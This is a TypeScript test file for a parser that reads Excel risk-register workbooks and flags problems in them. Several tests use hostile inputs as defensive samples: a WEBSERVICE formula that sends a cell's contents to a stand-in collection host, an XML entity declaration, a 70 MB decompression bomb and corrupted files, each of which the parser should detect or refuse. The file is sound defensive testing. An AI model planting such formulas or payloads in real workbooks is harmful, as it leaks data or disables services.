import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { type Cut } from '../../../../register/store';
import { CutError } from '../../../../sync/stores/excel/cut-error';
import { readCut } from '../../../../sync/stores/excel/read-cut';
import { buildWorkbook } from '../../../../sync/stores/excel/template';
import { demoOrg } from '../../box';

const northshire = 'xl/worksheets/sheet2.xml';
const table = 'xl/tables/table1.xml';

let template: Uint8Array;
beforeAll(async () => {
  template = await buildWorkbook(demoOrg);
});

/** The template with some parts rewritten. */
function changed(edits: Record<string, (xml: string) => string>): Uint8Array {
  const parts = unzipSync(template);
  for (const [path, edit] of Object.entries(edits))
    parts[path] = strToU8(edit(strFromU8(parts[path] ?? new Uint8Array())));
  return zipSync(parts);
}

/** The template with lines of cells under Northshire's heading line; the table reaches line `to`. */
function withLines(lines: string, to = 2): Uint8Array {
  return changed({
    [northshire]: (xml) => xml.replace(/<row r="2"[\s\S]*?<\/row>/, lines),
    [table]: (xml) => xml.replaceAll(/ref="A1:([A-Z]+)2"/g, `ref="A1:$1${to}"`),
  });
}

const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`;
const read = (bytes: Uint8Array): Cut => readCut(bytes, demoOrg, 'tag');
const rows = (cut: Cut) => cut.regions.find((region) => region.region === 'NS')?.rows ?? [];

describe('reading a cut', () => {
  it('STO5 finds every region and the service’s table, and no line in an empty one', () => {
    const cut = read(template);

    expect(cut.problems).toEqual([]);
    expect(cut.regions.map((region) => region.region)).toEqual(demoOrg.regions.map((region) => region.id));
    expect(cut.regions.every((region) => region.rows.length === 0 && region.formulas.length === 0)).toBe(
      true,
    );
    expect(cut.events).toEqual([]);
    expect(cut.tag).toBe('tag');
  });

  it('STO5 normalises what people type: text, numbers, days, truth values, rich text', () => {
    const line = `<row r="2">${text('A2', '  NS-2026-0001 ')}<c r="B2"><v>90001</v></c>
      <c r="S2" t="b"><v>1</v></c><c r="T2"><v>0.30000000000000004</v></c><c r="AA2"><v>46356.75</v></c>
      <c r="H2" t="inlineStr"><is><r><t>a &amp; </t></r><r><t>b_x000D__x005F_x</t></r><rPh><t>no</t></rPh></is></c></row>`;

    const [row] = rows(read(withLines(line)));

    expect(row).toMatchObject({ riskId: 'NS-2026-0001', place: 'table', line: 2 });
    expect(row?.typed).toMatchObject({
      caseRef: '90001',
      status: 'TRUE',
      level: '0.3',
      nextReviewOn: '2026-11-30',
      summary: 'a & b\n_x',
    });
  });

  it('SHT61 tells a workbook that counts days from 1904, and reads what the service wrote as it was written', () => {
    const parts = unzipSync(withLines(`<row r="2">${text('A2', 'X')}<c r="AA2"><v>46356</v></c></row>`));
    const path = 'xl/workbook.xml';
    parts[path] = strToU8(
      strFromU8(parts[path] ?? new Uint8Array()).replace('<workbookPr', '<workbookPr date1904="1"'),
    );

    const cut = read(zipSync(parts));

    expect(cut.problems).toEqual([{ code: 'other-calendar', region: null, object: 'date1904' }]);
    expect(rows(cut)[0]?.typed.nextReviewOn).toBe('2026-11-30');
  });

  it('STO5 reads lines typed below the table, and never runs to a declared last line', () => {
    const lines = `<row r="2">${text('A2', 'NS-2026-0001')}</row><row r="7">${text('C7', 'Reported')}${text('H7', 'New')}</row>
      <row r="1048576"><c r="A1048576" s="3"/></row>`;

    const found = rows(read(withLines(lines)));

    expect(found.map(({ line, place }) => [line, place])).toEqual([[2, 'table'], [7, 'below-table']]); // prettier-ignore
    expect(found[1]).toMatchObject({
      riskId: '',
      typedOver: { status: 'Reported' },
      typed: { summary: 'New' },
    });
  });

  it.each([
    ['Risks_NS3', ['copied-table']],
    ['Risks_NS_1', ['copied-table']],
    ['Risks_NSX', []],
    ['Notes', []],
  ])('SHT60 a table %s beside Northshire’s own, with its headings, is %j', (name, codes) => {
    const parts = unzipSync(template);
    const xml = strFromU8(parts[table] ?? new Uint8Array());
    parts['xl/tables/table90.xml'] = strToU8(xml.replaceAll('"Risks_NS"', `"${name}"`));
    const rels = 'xl/worksheets/_rels/sheet3.xml.rels';
    parts[rels] = strToU8(
      strFromU8(parts[rels] ?? new Uint8Array()).replace(
        '</Relationships>',
        '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/table" Target="../tables/table90.xml"/></Relationships>',
      ),
    );

    const { problems } = read(zipSync(parts));

    expect(problems.map(({ code, region }) => `${code} ${region}`)).toEqual(
      codes.map((code) => `${code} NS`),
    );
  });

  it('SHT13 an error that was pasted as a value is nobody’s word', () => {
    const error = (at: string) => `<c r="${at}" t="e"><v>#REF!</v></c>`;
    const line = `<row r="2">${text('A2', 'NS-2026-0001')}${error('D2')}${error('H2')}</row>`;

    expect(rows(read(withLines(line)))[0]).toMatchObject({ formulaIn: ['summary'], typedOver: {} });
  });

  it('STO13 tells a person’s formula, a constant over ours and a formula that is missing apart', () => {
    const line = `<row r="2">${text('A2', 'NS-2026-0001')}<c r="C2" t="str"><f>1+1</f><v>2</v></c>${text('D2', 'High')}
      <c r="H2" t="str"><f>A2&amp;"x"</f><v>NS-2026-0001x</v></c></row>`;

    const cut = read(withLines(line));

    expect(rows(cut)[0]).toMatchObject({ formulaIn: ['summary'], typedOver: { level: 'High' } });
    const formulas = new Map(cut.regions[0]?.formulas.map(({ column, constants }) => [column, constants]));
    expect(formulas.get('now:status')).toBe(false);
    expect(formulas.get('now:level')).toBe(true);
    expect(formulas.get('check')).toBe(false);
  });

  it('STO13 takes our formula for ours in any spelling a program saves it in', () => {
    const own =
      /<row r="2"[\s\S]*?<\/row>/.exec(strFromU8(unzipSync(template)[northshire] ?? new Uint8Array()))?.[0] ??
      '';
    const respelt = own.replace(/<c r="A2"[^>]*?(\/>|>[\s\S]*?<\/c>)/, '').replace('<row r="2"', '<row r="2" x="1"')
      .replace(/(<row[^>]*>)/, `$1${text('A2', 'NS-2026-0001')}`).replaceAll('_xlfn.MAXIFS(', '_xlfn.maxifs( '); // prettier-ignore

    expect(read(withLines(respelt)).regions[0]?.formulas).toEqual([]);
  });

  it('STO11 follows a renamed column that still stands in its place, and says so', () => {
    const cut = read(
      changed({
        [table]: (xml) => xml.replace('name="Summary"', 'name="What happened"'),
        [northshire]: (xml) =>
          xml.replace(/<row r="2"[\s\S]*?<\/row>/, `<row r="2">${text('H2', 'A dog')}</row>`),
      }),
    );

    expect(cut.problems).toEqual([{ code: 'renamed-column', region: 'NS', object: 'Summary' }]);
    expect(rows(cut)[0]?.typed.summary).toBe('A dog');
  });

  it.each([
    ['missing-columns', 'Summary', { [table]: (xml: string) => xml.replace('name="Summary"', 'name="Mine"').replace('id="8"', 'id="99"') }],
    // Another heading on a hidden column is another version's way of looking up, not somebody's wording.
    ['missing-columns', 'Service line', { [table]: (xml: string) => xml.replace('name="Service line"', 'name="Service sequence"') }],
    ['missing-table', 'Risks_NS', { [table]: (xml: string) => xml.replaceAll('Risks_NS"', 'Other"') }],
  ])('STO11 concludes nothing about a region with %s; the others go on', (code, object, edits) => {
    const cut = read(changed(edits));

    expect(cut.problems).toEqual([{ code, region: 'NS', object }]);
    expect(cut.regions.map((region) => region.region)).toEqual(['EM', 'CD', 'WV', 'MM', 'KR']);
  }); // prettier-ignore

  it('SHT54 tells a workbook that is calculated by hand, and no other', () => {
    const set = (mode: string) => ({
      'xl/workbook.xml': (xml: string) => xml.replace('<calcPr ', `<calcPr ${mode}`),
    });

    expect(read(changed(set('calcMode="manual" '))).calculatesByHand).toBe(true);
    for (const mode of ['', 'calcMode="auto" ', 'calcMode="autoNoTable" '])
      expect(read(changed(set(mode)))).not.toHaveProperty('calculatesByHand');
  });

  it('SHT46 a column that was moved, or one that people added, is no problem and shifts no value', () => {
    const column = (xml: string, name: string) =>
      new RegExp(`<tableColumn [^>]*name="${name}"(?:/>|[\\s\\S]*?</tableColumn>)`).exec(xml)?.[0] ?? '';
    const swapped = (xml: string) => {
      const [summary, notes] = [column(xml, 'Summary'), column(xml, 'Notes')];
      return xml.replace(summary, '@moved@').replace(notes, summary).replace('@moved@', notes);
    };
    const line = `<row r="2">${text('H2', 'Ring first')}${text('AB2', 'A dog')}</row>`;
    const moved = changed({
      [table]: swapped,
      [northshire]: (xml) => xml.replace(/<row r="2"[\s\S]*?<\/row>/, line),
    });
    const added = changed({
      [table]: (xml) =>
        xml
          .replaceAll(/ref="A1:([A-Z]+)(\d)"/g, 'ref="A1:AE$2"')
          .replace('</tableColumns>', '<tableColumn id="77" name="Our own"/></tableColumns>'),
      [northshire]: (xml) =>
        xml.replace(
          /<row r="2"[\s\S]*?<\/row>/,
          `<row r="2">${text('H2', 'A dog')}${text('AE2', 'x')}</row>`,
        ),
    });

    expect(read(moved).problems).toEqual([]);
    expect(rows(read(moved))[0]?.typed).toMatchObject({ summary: 'A dog', notes: 'Ring first' });
    expect(read(added).problems).toEqual([]);
    expect(rows(read(added))[0]?.typed).toMatchObject({ summary: 'A dog', notes: '' });
  });

  it('SHT43 tells a formula that reaches outside, in people’s cells and not in the service’s', () => {
    const outside = '<f>WEBSERVICE("https://collect.caseworkcharity.example/"&amp;H2)</f><v>x</v>';
    const of = (cell: string) =>
      rows(read(withLines(`<row r="2">${text('A2', 'NS-2026-0001')}${cell}</row>`)))[0];

    expect(of(`<c r="AB2" t="str">${outside}</c>`)?.reachesOut).toBe(true);
    expect(of('<c r="AB2" t="str"><f>A2&amp;"x"</f><v>x</v></c>')?.reachesOut).toBeUndefined();
    expect(of('<c r="AB2" t="str"><f>[1]Sheet1!$A$1</f><v>x</v></c>')?.reachesOut).toBe(true);
  });

  it('STO11 tells merged cells over lines of the table', () => {
    const merge = '<mergeCells count="1"><mergeCell ref="A2:B3"/></mergeCells>';
    const cut = read(changed({ [northshire]: (xml) => xml.replace('</sheetData>', `</sheetData>${merge}`) }));

    expect(cut.problems).toEqual([{ code: 'merged-cells', region: 'NS', object: 'Risks_NS' }]);
  });

  it('STO11 tells a service table that is gone or rearranged', () => {
    const service = 'xl/tables/table7.xml';
    const swapped = (xml: string) =>
      xml.replace('name="Seq"', 'name="Q"').replace('name="Key"', 'name="Seq"');

    for (const edit of [swapped, (xml: string) => xml.replaceAll('"Ev"', '"Gone"')]) {
      const cut = read(changed({ [service]: edit }));
      expect(cut.events).toBeNull();
      expect(cut.problems).toEqual([{ code: 'missing-service-table', region: null, object: 'Ev' }]);
    }
  });

  it.each([
    ['text', new TextEncoder().encode('not a zip')],
    ['nothing', new Uint8Array()],
    ['a zip of something else', zipSync({ 'a.txt': strToU8('a') })],
  ])('STO12 refuses %s as no workbook', (_, bytes) => {
    expect(() => read(bytes)).toThrow(CutError);
  });

  it('STO12 refuses a document type, an unknown entity and broken XML', () => {
    const edits = [
      (xml: string) => xml.replace('<worksheet', '<!DOCTYPE x [<!ENTITY a "b">]><worksheet'),
      (xml: string) => xml.replace('<sheetData>', '<sheetData>').replace(/<v>/, '<v>&bomb;'),
      (xml: string) => xml.slice(0, xml.length / 2),
      (xml: string) => xml.replace('<row r="2"', '<row r="1048577"'),
    ];
    for (const edit of edits) expect(() => read(changed({ [northshire]: edit }))).toThrow(CutError);
  });

  it('STO12 refuses a file that unpacks to more than a register can be', () => {
    const bomb = zipSync({
      ...unzipSync(template),
      'xl/worksheets/sheet2.xml': new Uint8Array(70 * 1024 * 1024),
    });

    expect(() => read(bomb)).toThrow(expect.objectContaining({ code: 'too-large' }));
  });

  it('STO12 fails only with CutError, however the file is damaged', () => {
    for (let at = 0; at < template.length; at += Math.ceil(template.length / 60)) {
      const damaged = template.slice();
      damaged[at] = (damaged[at] ?? 0) ^ 0xff;
      try {
        read(damaged);
      } catch (error) {
        expect(error).toBeInstanceOf(CutError);
      }
    }
  });
});
